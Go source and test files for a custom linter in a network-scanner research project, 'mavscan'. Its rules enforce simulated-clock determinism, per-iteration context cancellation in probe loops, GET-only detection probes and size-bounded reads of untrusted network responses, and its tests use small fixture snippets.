	if len(assign.Rhs) == 1 && len(assign.Lhs) > 1 {
		tv, ok := pkg.Info.Types[assign.Rhs[0]]
		if !ok {
			return nil
		}
		tuple, ok := tv.Type.(*types.Tuple)
		if !ok || i >= tuple.Len() {
			return nil
		}
		return tuple.At(i).Type()
	}
	if i >= len(assign.Rhs) {
		return nil
	}
	tv, ok := pkg.Info.Types[assign.Rhs[i]]
	if !ok {
		return nil
	}
	return tv.Type
}
