package lint

import (
	"fmt"
	"go/ast"
)

// simclockExempt lists the packages allowed to read the wall clock:
// simtime owns the Clock abstraction and hosts the only wall-clock
// implementations.
var simclockExempt = []string{
	"mavscan/internal/simtime",
}

// simclockBanned are the time-package functions that break determinism
// when called directly: experiments replayed on the simulated timeline
// (the 3-hour observer loop, the 4-week honeypot exposure) must obtain
// time exclusively through an injected simtime.Clock.
var simclockBanned = []string{
	"Now", "Sleep", "After", "AfterFunc", "Tick", "NewTicker", "NewTimer",
	"Since", "Until",
}

// AnalyzerSimClock flags direct wall-clock access in internal packages.
var AnalyzerSimClock = &Analyzer{
	Name:  "simclock",
	Doc:   "internal packages must use an injected simtime clock, never time.Now/Sleep/After directly",
	Paper: "deterministic replay of the longitudinal re-scan schedule (§4)",
	Run:   runSimClock,
}

func runSimClock(pkg *Package) []Finding {
	if !pathIsOrUnder(pkg.Path, "mavscan/internal") || pathUnderAny(pkg.Path, simclockExempt) {
		return nil
	}
	var out []Finding
	for _, file := range pkg.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			sel, ok := n.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			obj := pkg.Info.Uses[sel.Sel]
			if objectFromPkg(obj, "time", simclockBanned...) && packageLevel(obj) {
				out = append(out, Finding{
					Pos:  pkg.position(sel),
					Rule: "simclock",
					Msg:  fmt.Sprintf("direct call of time.%s breaks simulated-time determinism (inject a simtime.Clock)", obj.Name()),
				})
			}
			return true
		})
	}
	return out
}
