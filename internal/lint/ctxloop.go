package lint

import (
	"go/ast"
)

// ctxloopScope lists the packages whose loops issue cancellable work:
// probes, detector runs, fingerprint crawls, retries. Simulation plumbing
// and report rendering carry no contexts worth checking.
var ctxloopScope = []string{
	"mavscan/internal/portscan",
	"mavscan/internal/prefilter",
	"mavscan/internal/tsunami",
	"mavscan/internal/fingerprint",
	"mavscan/internal/scanner",
	"mavscan/internal/observer",
	"mavscan/internal/secscan",
	"mavscan/internal/orchestrator",
	"mavscan/internal/attacker",
	"mavscan/internal/resilience",
}

// AnalyzerCtxLoop flags loops that pass a context created *outside* the
// loop into per-iteration work without ever consulting it for
// cancellation. Such a loop keeps probing after the scan is canceled; the
// orchestrator's never-journal-a-half-scanned-segment rule assumes every
// worker stops between probes, not after draining its whole backlog.
//
// A loop is clean if its per-iteration cone (nested function literals
// excluded — they run later, if ever) contains a select statement, a
// ctx.Err()/ctx.Done() call, or a comparison against context.Canceled /
// context.DeadlineExceeded. Contexts manufactured inside the loop body are
// fresh per iteration and exempt.
var AnalyzerCtxLoop = &Analyzer{
	Name:  "ctxloop",
	Doc:   "probe/retry loops must check ctx cancellation every iteration",
	Paper: "a canceled scan must stop between probes so no half-scanned segment is ever journaled (checkpoint soundness)",
	Run:   runCtxLoop,
}

func runCtxLoop(pkg *Package) []Finding {
	if !pathUnderAny(pkg.Path, ctxloopScope) {
		return nil
	}
	var out []Finding
	for _, file := range pkg.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			switch n.(type) {
			case *ast.ForStmt, *ast.RangeStmt:
				if f, bad := ctxLoopFinding(pkg, n); bad {
					out = append(out, f)
				}
			}
			return true
		})
	}
	return out
}

// ctxLoopFinding inspects one loop's per-iteration cone.
func ctxLoopFinding(pkg *Package, loop ast.Node) (Finding, bool) {
	works := false
	checked := false
	coneInspect(loop, func(n ast.Node) {
		switch n := n.(type) {
		case *ast.SelectStmt:
			checked = true
		case *ast.SelectorExpr:
			if obj := pkg.Info.Uses[n.Sel]; objectFromPkg(obj, "context", "Canceled", "DeadlineExceeded") {
				checked = true
			}
		case *ast.CallExpr:
			if isCancelCheck(pkg, n) {
				checked = true
				return
			}
			if !works && callCarriesOuterCtx(pkg, n, loop) {
				works = true
			}
		}
	})
	if !works || checked {
		return Finding{}, false
	}
	return Finding{
		Pos:  pkg.position(loop),
		Rule: "ctxloop",
		Msg:  "loop passes an outer context into per-iteration work without a ctx.Err()/select cancellation check",
	}, true
}

// isCancelCheck reports whether call is ctx.Err() or ctx.Done() on a
// context-typed receiver.
func isCancelCheck(pkg *Package, call *ast.CallExpr) bool {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok || (sel.Sel.Name != "Err" && sel.Sel.Name != "Done") {
		return false
	}
	tv, ok := pkg.Info.Types[sel.X]
	return ok && isContextType(tv.Type)
}

// callCarriesOuterCtx reports whether call performs work under a context
// that already existed when the loop began.
func callCarriesOuterCtx(pkg *Package, call *ast.CallExpr, loop ast.Node) bool {
	// Calls into package context manufacture or inspect contexts; they
	// are not probe work.
	if obj := usedObject(pkg.Info, call.Fun); obj != nil && obj.Pkg() != nil && obj.Pkg().Path() == "context" {
		return false
	}
	for _, arg := range call.Args {
		tv, ok := pkg.Info.Types[arg]
		if !ok || !isContextType(tv.Type) {
			continue
		}
		if ctxOutlivesLoop(pkg, arg, loop) {
			return true
		}
	}
	return false
}

// ctxOutlivesLoop reports whether the context argument refers to a value
// declared before the loop (parameter or earlier local). Contexts built
// inside the loop body — including context.Background() calls — are fresh
// per iteration.
func ctxOutlivesLoop(pkg *Package, arg ast.Expr, loop ast.Node) bool {
	switch e := arg.(type) {
	case *ast.ParenExpr:
		return ctxOutlivesLoop(pkg, e.X, loop)
	case *ast.Ident:
		obj := pkg.Info.Uses[e]
		return obj != nil && (obj.Pos() < loop.Pos() || obj.Pos() > loop.End())
	case *ast.SelectorExpr:
		return true // a context stored on a struct predates the loop
	}
	return false
}
