package lint

import (
	"fmt"
	"testing"
)

// analyzerCase is one fixture source checked by one analyzer.
type analyzerCase struct {
	name       string
	importPath string
	src        string
	// want lists the expected findings as "line:rule", in order.
	want []string
}

// runCase loads src as an in-memory package and returns the analyzer's
// findings formatted "line:rule".
func runCase(t *testing.T, a *Analyzer, c analyzerCase) []string {
	t.Helper()
	pkg, err := LoadSource(c.importPath, map[string]string{"fixture.go": c.src})
	if err != nil {
		t.Fatalf("LoadSource: %v", err)
	}
	var got []string
	for _, f := range a.Run(pkg) {
		got = append(got, fmt.Sprintf("%d:%s", f.Pos.Line, f.Rule))
	}
	return got
}

func checkCases(t *testing.T, a *Analyzer, cases []analyzerCase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := runCase(t, a, c)
			if fmt.Sprint(got) != fmt.Sprint(c.want) {
				t.Errorf("findings = %v, want %v", got, c.want)
			}
		})
	}
}

func TestGetOnly(t *testing.T) {
	const postProbe = `package p
import "net/http"
func Probe(c *http.Client) {
	req, _ := http.NewRequest(http.MethodPost, "http://x/install", nil)
	c.Do(req)
}
`
	checkCases(t, AnalyzerGetOnly, []analyzerCase{
		{
			name:       "post constant in detection path",
			importPath: "mavscan/internal/prefilter",
			src:        postProbe,
			want:       []string{"4:getonly"},
		},
		{
			name:       "same code allowed in attacker emulation",
			importPath: "mavscan/internal/attacker",
			src:        postProbe,
			want:       nil,
		},
		{
			name:       "string-literal method",
			importPath: "mavscan/internal/fingerprint",
			src: `package p
import "net/http"
func Probe() { http.NewRequest("PUT", "http://x", nil) }
`,
			want: []string{"3:getonly"},
		},
		{
			name:       "client.Post helper",
			importPath: "mavscan/internal/tsunami/plugins",
			src: `package p
import "net/http"
func Probe(c *http.Client) { c.Post("http://x", "text/plain", nil) }
`,
			want: []string{"3:getonly"},
		},
		{
			name:       "GET probe is clean",
			importPath: "mavscan/internal/prefilter",
			src: `package p
import "net/http"
func Probe(c *http.Client) {
	req, _ := http.NewRequest(http.MethodGet, "http://x/login", nil)
	c.Do(req)
}
`,
			want: nil,
		},
		{
			name:       "PostForm struct field is not a request",
			importPath: "mavscan/internal/prefilter",
			src: `package p
import "net/http"
func Inspect(r *http.Request) int { return len(r.PostForm) }
`,
			want: nil,
		},
	})
}

func TestSimClock(t *testing.T) {
	checkCases(t, AnalyzerSimClock, []analyzerCase{
		{
			name:       "time.Now in internal package",
			importPath: "mavscan/internal/observer",
			src: `package p
import "time"
func Stamp() time.Time { return time.Now() }
`,
			want: []string{"3:simclock"},
		},
		{
			name:       "time.Sleep and time.Since",
			importPath: "mavscan/internal/portscan",
			src: `package p
import "time"
func Pace(start time.Time) time.Duration {
	time.Sleep(time.Millisecond)
	return time.Since(start)
}
`,
			want: []string{"4:simclock", "5:simclock"},
		},
		{
			name:       "simtime itself is exempt",
			importPath: "mavscan/internal/simtime",
			src: `package p
import "time"
func Now() time.Time { return time.Now() }
`,
			want: nil,
		},
		{
			name:       "time.Time.After method is not the ambient clock",
			importPath: "mavscan/internal/population",
			src: `package p
import "time"
func Later(a, b time.Time) bool { return a.After(b) }
`,
			want: nil,
		},
		{
			name:       "cmd packages are out of scope",
			importPath: "mavscan/cmd/mavscan",
			src: `package main
import "time"
func stamp() time.Time { return time.Now() }
`,
			want: nil,
		},
	})
}

func TestHermetic(t *testing.T) {
	const dialSrc = `package p
import "net"
func Open(addr string) (net.Conn, error) { return net.Dial("tcp", addr) }
`
	checkCases(t, AnalyzerHermetic, []analyzerCase{
		{
			name:       "net.Dial in pipeline code",
			importPath: "mavscan/internal/tsunami",
			src:        dialSrc,
			want:       []string{"3:hermetic"},
		},
		{
			name:       "simnet is exempt",
			importPath: "mavscan/internal/simnet",
			src:        dialSrc,
			want:       nil,
		},
		{
			name:       "http.DefaultClient and net.Listen",
			importPath: "mavscan/internal/scanner",
			src: `package p
import (
	"net"
	"net/http"
)
func Serve(addr string) {
	http.DefaultClient.Get("http://" + addr)
	net.Listen("tcp", addr)
}
`,
			want: []string{"7:hermetic", "8:hermetic"},
		},
		{
			name:       "injected client and header access are clean",
			importPath: "mavscan/internal/prefilter",
			src: `package p
import "net/http"
func Probe(c *http.Client, u string) (string, error) {
	resp, err := c.Get(u)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	return resp.Header.Get("Server"), nil
}
`,
			want: nil,
		},
	})
}

func TestGoLeak(t *testing.T) {
	checkCases(t, AnalyzerGoLeak, []analyzerCase{
		{
			name:       "untied goroutine",
			importPath: "mavscan/internal/observer",
			src: `package p
func Spawn(work func()) {
	go func() {
		work()
	}()
}
`,
			want: []string{"3:goleak"},
		},
		{
			name:       "waitgroup tie",
			importPath: "mavscan/internal/observer",
			src: `package p
import "sync"
func Spawn(work func()) {
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		work()
	}()
	wg.Wait()
}
`,
			want: nil,
		},
		{
			name:       "channel send tie",
			importPath: "mavscan/internal/scanner",
			src: `package p
func Spawn() <-chan int {
	out := make(chan int)
	go func() {
		out <- 1
	}()
	return out
}
`,
			want: nil,
		},
		{
			name:       "context cancellation tie",
			importPath: "mavscan/internal/scanner",
			src: `package p
import "context"
func Spawn(ctx context.Context, work func()) {
	go func() {
		if ctx.Err() != nil {
			return
		}
		work()
	}()
}
`,
			want: nil,
		},
		{
			name:       "named function delegates lifecycle",
			importPath: "mavscan/internal/observer",
			src: `package p
func worker() {}
func Spawn() { go worker() }
`,
			want: nil,
		},
	})
}

func TestErrDrop(t *testing.T) {
	checkCases(t, AnalyzerErrDrop, []analyzerCase{
		{
			name:       "dropped error from multi-return",
			importPath: "mavscan/internal/scanner",
			src: `package p
import "strconv"
func Parse(s string) int {
	n, _ := strconv.Atoi(s)
	return n
}
`,
			want: []string{"4:errdrop"},
		},
		{
			name:       "dropped single error value",
			importPath: "mavscan/internal/tsunami",
			src: `package p
import "errors"
func fail() error { return errors.New("x") }
func Run() { _ = fail() }
`,
			want: []string{"4:errdrop"},
		},
		{
			name:       "comma-ok is not an error",
			importPath: "mavscan/internal/scanner",
			src: `package p
func Lookup(m map[string]int, k string) bool {
	_, ok := m[k]
	return ok
}
`,
			want: nil,
		},
		{
			name:       "non-pipeline package is out of scope",
			importPath: "mavscan/internal/report",
			src: `package p
import "strconv"
func Parse(s string) int {
	n, _ := strconv.Atoi(s)
	return n
}
`,
			want: nil,
		},
	})
}

func TestBoundedRead(t *testing.T) {
	checkCases(t, AnalyzerBoundedRead, []analyzerCase{
		{
			name:       "ReadAll of a response body",
			importPath: "mavscan/internal/fingerprint",
			src: `package p
import (
	"io"
	"net/http"
)
func Slurp(resp *http.Response) ([]byte, error) { return io.ReadAll(resp.Body) }
`,
			want: []string{"6:boundedread"},
		},
		{
			name:       "LimitReader wrap is clean",
			importPath: "mavscan/internal/fingerprint",
			src: `package p
import (
	"io"
	"net/http"
)
func Slurp(resp *http.Response) ([]byte, error) {
	return io.ReadAll(io.LimitReader(resp.Body, 1<<20))
}
`,
			want: nil,
		},
		{
			name:       "MaxBytesReader reassignment re-classifies the field",
			importPath: "mavscan/internal/apps",
			src: `package p
import (
	"io"
	"net/http"
)
func Handle(w http.ResponseWriter, r *http.Request) ([]byte, error) {
	r.Body = http.MaxBytesReader(w, r.Body, 1<<20)
	return io.ReadAll(r.Body)
}
`,
			want: nil,
		},
		{
			name:       "bound installed after the read does not launder it",
			importPath: "mavscan/internal/apps",
			src: `package p
import (
	"io"
	"net/http"
)
func Handle(w http.ResponseWriter, r *http.Request) ([]byte, error) {
	b, err := io.ReadAll(r.Body)
	r.Body = http.MaxBytesReader(w, r.Body, 1<<20)
	return b, err
}
`,
			want: []string{"7:boundedread"},
		},
		{
			name:       "NopCloser propagates the classification",
			importPath: "mavscan/internal/tsunami",
			src: `package p
import (
	"io"
	"net/http"
)
func Slurp(resp *http.Response) ([]byte, error) {
	rc := io.NopCloser(resp.Body)
	return io.ReadAll(rc)
}
`,
			want: []string{"8:boundedread"},
		},
		{
			name:       "copy source matters, destination does not",
			importPath: "mavscan/internal/attacker",
			src: `package p
import (
	"io"
	"net"
	"strings"
)
func Send(conn net.Conn) { io.Copy(conn, strings.NewReader("GET / HTTP/1.0")) }
func Recv(conn net.Conn) { io.Copy(io.Discard, conn) }
`,
			want: []string{"8:boundedread"},
		},
		{
			name:       "raw Read outside a loop fills one buffer",
			importPath: "mavscan/internal/attacker",
			src: `package p
import "net"
func Peek(conn net.Conn) ([]byte, error) {
	buf := make([]byte, 512)
	n, err := conn.Read(buf)
	return buf[:n], err
}
`,
			want: nil,
		},
		{
			name:       "raw Read loop drains under peer control",
			importPath: "mavscan/internal/attacker",
			src: `package p
import "net"
func Drain(conn net.Conn) {
	buf := make([]byte, 512)
	for {
		if _, err := conn.Read(buf); err != nil {
			return
		}
	}
}
`,
			want: []string{"6:boundedread"},
		},
		{
			name:       "simnet is exempt",
			importPath: "mavscan/internal/simnet",
			src: `package p
import (
	"io"
	"net/http"
)
func Slurp(resp *http.Response) ([]byte, error) { return io.ReadAll(resp.Body) }
`,
			want: nil,
		},
		{
			name:       "in-memory readers are bounded by type",
			importPath: "mavscan/internal/report",
			src: `package p
import (
	"bufio"
	"bytes"
	"io"
	"strings"
)
func Render(b *bytes.Buffer) ([]byte, error) {
	bufio.NewScanner(strings.NewReader("x")).Scan()
	return io.ReadAll(b)
}
`,
			want: nil,
		},
	})
}

func TestMapDet(t *testing.T) {
	checkCases(t, AnalyzerMapDet, []analyzerCase{
		{
			name:       "append in map order without sort",
			importPath: "mavscan/internal/report",
			src: `package p
func Rows(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}
`,
			want: []string{"5:mapdet"},
		},
		{
			name:       "append then sort is clean",
			importPath: "mavscan/internal/report",
			src: `package p
import "sort"
func Rows(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
`,
			want: nil,
		},
		{
			name:       "selector-target append then sort is clean",
			importPath: "mavscan/internal/scanner",
			src: `package p
import "sort"
type Report struct{ Apps []string }
func Fill(r *Report, m map[string]bool) {
	for k := range m {
		r.Apps = append(r.Apps, k)
	}
	sort.Strings(r.Apps)
}
`,
			want: nil,
		},
		{
			name:       "loop-local accumulator is rebuilt per iteration",
			importPath: "mavscan/internal/analysis",
			src: `package p
func Clusters(m map[int][]string) int {
	total := 0
	for _, members := range m {
		var row []string
		for _, v := range members {
			row = append(row, v)
		}
		total += len(row)
	}
	return total
}
`,
			want: nil,
		},
		{
			name:       "per-key bucket indexed by the loop key is clean",
			importPath: "mavscan/internal/observer",
			src: `package p
func Group(src map[string]int, dst map[string][]int) {
	for k, v := range src {
		dst[k] = append(dst[k], v)
	}
}
`,
			want: nil,
		},
		{
			name:       "bucket keyed by anything else accumulates map order",
			importPath: "mavscan/internal/observer",
			src: `package p
func Flatten(src map[string]int, dst map[string][]int) {
	for _, v := range src {
		dst["all"] = append(dst["all"], v)
	}
}
`,
			want: []string{"4:mapdet"},
		},
		{
			name:       "stream write during map iteration",
			importPath: "mavscan/internal/orchestrator",
			src: `package p
import (
	"fmt"
	"io"
)
func Journal(w io.Writer, m map[string]int) {
	for k, v := range m {
		fmt.Fprintf(w, "%s=%d\n", k, v)
	}
}
`,
			want: []string{"8:mapdet"},
		},
		{
			name:       "slice iteration is ordered already",
			importPath: "mavscan/internal/report",
			src: `package p
func Rows(in []string) []string {
	var out []string
	for _, v := range in {
		out = append(out, v)
	}
	return out
}
`,
			want: nil,
		},
	})
}

func TestCtxLoop(t *testing.T) {
	const probeIface = `type Prober interface {
	Probe(ctx context.Context, addr string) error
}
`
	checkCases(t, AnalyzerCtxLoop, []analyzerCase{
		{
			name:       "outer ctx without a check",
			importPath: "mavscan/internal/tsunami",
			src: `package p
import "context"
` + probeIface + `func Sweep(ctx context.Context, p Prober, addrs []string) {
	for _, a := range addrs {
		p.Probe(ctx, a)
	}
}
`,
			want: []string{"7:ctxloop"},
		},
		{
			name:       "ctx.Err check is clean",
			importPath: "mavscan/internal/tsunami",
			src: `package p
import "context"
` + probeIface + `func Sweep(ctx context.Context, p Prober, addrs []string) error {
	for _, a := range addrs {
		if err := ctx.Err(); err != nil {
			return err
		}
		p.Probe(ctx, a)
	}
	return nil
}
`,
			want: nil,
		},
		{
			name:       "select on ctx.Done is clean",
			importPath: "mavscan/internal/scanner",
			src: `package p
import "context"
` + probeIface + `func Sweep(ctx context.Context, p Prober, addrs []string) {
	for _, a := range addrs {
		select {
		case <-ctx.Done():
			return
		default:
		}
		p.Probe(ctx, a)
	}
}
`,
			want: nil,
		},
		{
			name:       "context.Canceled comparison is a check",
			importPath: "mavscan/internal/observer",
			src: `package p
import (
	"context"
	"errors"
)
` + probeIface + `func Sweep(ctx context.Context, p Prober, addrs []string) error {
	for _, a := range addrs {
		if err := p.Probe(ctx, a); errors.Is(err, context.Canceled) {
			return err
		}
	}
	return nil
}
`,
			want: nil,
		},
		{
			name:       "ctx manufactured inside the loop is fresh",
			importPath: "mavscan/internal/observer",
			src: `package p
import "context"
` + probeIface + `func Sweep(p Prober, addrs []string) {
	for _, a := range addrs {
		ctx, cancel := context.WithCancel(context.Background())
		p.Probe(ctx, a)
		cancel()
	}
}
`,
			want: nil,
		},
		{
			name:       "closures defer the work past the loop",
			importPath: "mavscan/internal/attacker",
			src: `package p
import "context"
` + probeIface + `func Plan(ctx context.Context, p Prober, addrs []string) []func() error {
	var fns []func() error
	for _, a := range addrs {
		a := a
		fns = append(fns, func() error { return p.Probe(ctx, a) })
	}
	return fns
}
`,
			want: nil,
		},
		{
			name:       "non-pipeline package is out of scope",
			importPath: "mavscan/internal/report",
			src: `package p
import "context"
` + probeIface + `func Sweep(ctx context.Context, p Prober, addrs []string) {
	for _, a := range addrs {
		p.Probe(ctx, a)
	}
}
`,
			want: nil,
		},
	})
}

func TestByName(t *testing.T) {
	for _, a := range Analyzers() {
		if ByName(a.Name) != a {
			t.Errorf("ByName(%q) did not round-trip", a.Name)
		}
	}
	if ByName("nope") != nil {
		t.Error("ByName of unknown rule should be nil")
	}
}

func TestFindingString(t *testing.T) {
	pkg, err := LoadSource("mavscan/internal/portscan", map[string]string{"fixture.go": `package p
import "time"
var T = time.Now()
`})
	if err != nil {
		t.Fatal(err)
	}
	fs := AnalyzerSimClock.Run(pkg)
	if len(fs) != 1 {
		t.Fatalf("got %d findings, want 1", len(fs))
	}
	want := "fixture.go:3: [simclock] direct call of time.Now breaks simulated-time determinism (inject a simtime.Clock)"
	if fs[0].String() != want {
		t.Errorf("String() = %q, want %q", fs[0].String(), want)
	}
}
