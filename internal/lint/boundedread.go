package lint

import (
	"fmt"
	"go/ast"
)

// boundedreadExempt lists the packages allowed to consume network readers
// without a bound: simnet is the simulated-victim fabric (it *is* the
// peer), adversary implements the weaponized victims themselves (a tarpit
// deliberately drains its attacker's bytes), and the analysis engine holds
// no sockets.
var boundedreadExempt = []string{
	"mavscan/internal/simnet",
	"mavscan/internal/adversary",
	"mavscan/internal/lint",
}

// AnalyzerBoundedRead flags consumption of a network-derived reader that
// does not flow through an explicit size bound. A scanner that io.ReadAlls
// whatever a probed endpoint sends can be memory-exhausted by a single
// hostile victim; every read path must pass io.LimitReader,
// http.MaxBytesReader, or an in-memory buffer first.
var AnalyzerBoundedRead = &Analyzer{
	Name:  "boundedread",
	Doc:   "network readers must be consumed through an explicit size bound",
	Paper: "probed endpoints are untrusted; unbounded reads let a victim exhaust the scanner (adversarial-endpoints hardening)",
	Run:   runBoundedRead,
}

func runBoundedRead(pkg *Package) []Finding {
	if pathUnderAny(pkg.Path, boundedreadExempt) {
		return nil
	}
	var out []Finding
	for _, file := range pkg.Files {
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok || fn.Body == nil {
				continue
			}
			out = append(out, boundedReadFunc(pkg, fn.Body)...)
		}
	}
	return out
}

// boundedReadFunc walks one function body with a fresh lattice and reports
// every unbounded consumption point.
func boundedReadFunc(pkg *Package, body *ast.BlockStmt) []Finding {
	fl := newFuncFlow(pkg)
	var out []Finding
	fl.walk(body, func(n ast.Node, stack []ast.Node) {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return
		}
		if msg := unboundedConsumption(fl, call, stack); msg != "" {
			out = append(out, Finding{Pos: pkg.position(call), Rule: "boundedread", Msg: msg})
		}
	})
	return out
}

// unboundedConsumption reports why call consumes a network reader without
// a bound, or "" if it does not.
func unboundedConsumption(fl *funcFlow, call *ast.CallExpr, stack []ast.Node) string {
	arg := func(i int) ast.Expr {
		if i < len(call.Args) {
			return call.Args[i]
		}
		return nil
	}
	// describe renders the reader's flavor for the finding message;
	// decompressed streams get their own wording because the fix differs
	// (re-bound the *output*, or use limits.Gunzip — bounding the input
	// does nothing against a compression bomb).
	describe := func(v flowVal) string {
		if v == valDecompressed {
			return "a decompressed network stream (compression-bomb amplification); re-bound the inflated output or use limits.Gunzip"
		}
		return ""
	}
	obj := usedObject(fl.pkg.Info, call.Fun)
	if obj != nil && packageLevel(obj) {
		switch {
		case objectFromPkg(obj, "io", "ReadAll"):
			if v := fl.classify(arg(0)); netLike(v) {
				if d := describe(v); d != "" {
					return "io.ReadAll of " + d
				}
				return "io.ReadAll of an unbounded network reader; wrap it in io.LimitReader"
			}
		case objectFromPkg(obj, "io", "Copy", "CopyBuffer"):
			if v := fl.classify(arg(1)); netLike(v) {
				if d := describe(v); d != "" {
					return fmt.Sprintf("io.%s from %s", obj.Name(), d)
				}
				return fmt.Sprintf("io.%s from an unbounded network reader; wrap the source in io.LimitReader", obj.Name())
			}
		case objectFromPkg(obj, "bufio", "NewScanner"):
			if v := fl.classify(arg(0)); netLike(v) {
				if d := describe(v); d != "" {
					return "bufio.Scanner over " + d
				}
				return "bufio.Scanner over an unbounded network reader; scan an io.LimitReader instead"
			}
		case objectFromPkg(obj, "encoding/json", "NewDecoder"),
			objectFromPkg(obj, "encoding/xml", "NewDecoder"):
			if v := fl.classify(arg(0)); netLike(v) {
				if d := describe(v); d != "" {
					return fmt.Sprintf("%s.NewDecoder on %s", obj.Pkg().Name(), d)
				}
				return fmt.Sprintf("%s.NewDecoder on an unbounded network body; decode from http.MaxBytesReader or io.LimitReader", obj.Pkg().Name())
			}
		}
	}
	// A raw x.Read(buf) fills one bounded buffer, but inside a loop it
	// consumes the stream indefinitely under the peer's control.
	if sel, ok := call.Fun.(*ast.SelectorExpr); ok && sel.Sel.Name == "Read" && len(call.Args) == 1 {
		if insideLoop(stack) {
			if v := fl.classify(sel.X); netLike(v) {
				if d := describe(v); d != "" {
					return "raw Read loop over " + d
				}
				return "raw Read loop over an unbounded network reader; bound it with io.LimitReader"
			}
		}
	}
	return ""
}

// insideLoop reports whether the ancestor stack contains a for/range.
func insideLoop(stack []ast.Node) bool {
	for _, n := range stack {
		switch n.(type) {
		case *ast.ForStmt, *ast.RangeStmt:
			return true
		}
	}
	return false
}
