package lint

import (
	"testing"
)

// TestRepositoryIsClean runs the full suite over the real module and
// requires zero findings — the invariant every merged tree must hold.
// This is the in-process twin of `go run ./cmd/mavlint ./...`.
func TestRepositoryIsClean(t *testing.T) {
	root, err := FindModuleRoot(".")
	if err != nil {
		t.Fatalf("FindModuleRoot: %v", err)
	}
	pkgs, err := LoadModule(root)
	if err != nil {
		t.Fatalf("LoadModule(%s): %v", root, err)
	}
	if len(pkgs) < 20 {
		t.Fatalf("loaded only %d packages from %s; loader lost part of the module", len(pkgs), root)
	}
	findings := RunSuite(pkgs, Analyzers())
	for _, f := range findings {
		t.Errorf("%s", f)
	}
}
