package lint

import (
	"testing"
)

// TestRepositoryIsClean runs the full suite over the real module and
// requires zero findings — the invariant every merged tree must hold.
// This is the in-process twin of `go run ./cmd/mavlint ./...`.
func TestRepositoryIsClean(t *testing.T) {
	root, err := FindModuleRoot(".")
	if err != nil {
		t.Fatalf("FindModuleRoot: %v", err)
	}
	pkgs, err := LoadModule(root)
	if err != nil {
		t.Fatalf("LoadModule(%s): %v", root, err)
	}
	if len(pkgs) < 20 {
		t.Fatalf("loaded only %d packages from %s; loader lost part of the module", len(pkgs), root)
	}
	findings := RunSuite(pkgs, Analyzers())
	for _, f := range findings {
		t.Errorf("%s", f)
	}
}

// TestTelemetryStaysInScope pins the telemetry package inside the scope
// of the determinism and hermeticity rules: a future exemption would let
// wall-clock reads or real-network pushes creep into the metrics layer
// unnoticed. The badmodule fixture proves the rules actually fire on a
// telemetry package; this proves the real one is not exempted.
func TestTelemetryStaysInScope(t *testing.T) {
	const pkg = "mavscan/internal/telemetry"
	if !pathIsOrUnder(pkg, "mavscan/internal") {
		t.Fatalf("%s not under mavscan/internal", pkg)
	}
	if pathUnderAny(pkg, simclockExempt) {
		t.Errorf("%s exempt from simclock; metric timestamps must come from an injected clock", pkg)
	}
	if pathUnderAny(pkg, hermeticExempt) {
		t.Errorf("%s exempt from hermetic; exposition must stay pull-based", pkg)
	}
}
